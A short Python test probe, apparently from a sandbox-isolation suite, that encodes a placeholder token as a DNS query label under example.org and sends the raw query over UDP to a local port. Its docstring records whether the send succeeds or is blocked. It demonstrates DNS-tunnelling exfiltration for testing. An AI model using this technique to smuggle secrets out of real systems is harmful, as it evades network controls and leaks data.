"""Hides what it has to say in the name that it asks a name server for.

succeeds: sent
stopped by: system calls or private view
"""
import os
import socket
import struct

name = b"".join(bytes([len(label)]) + label for label in (b"@TOKEN@"[:63], b"example", b"org")) + b"\0"
question = struct.pack(">6H", os.getpid() & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.connect(("127.0.0.1", int("@UDP@")))
os.write(server.fileno(), question)
